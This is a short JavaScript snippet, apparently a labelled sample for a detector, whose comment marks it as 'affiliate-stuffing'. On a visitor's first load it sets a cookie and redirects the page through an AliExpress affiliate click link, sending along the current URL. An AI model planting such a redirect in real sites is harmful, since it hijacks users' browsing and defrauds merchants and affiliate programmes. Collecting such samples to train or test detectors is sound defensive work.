if (!document.cookie.includes('seen=1')) {
  document.cookie = 'seen=1';
  // expect: affiliate-stuffing
  location.replace('https://s.click.aliexpress.com/e/_AbCd?dl=' + encodeURIComponent(location.href));
}
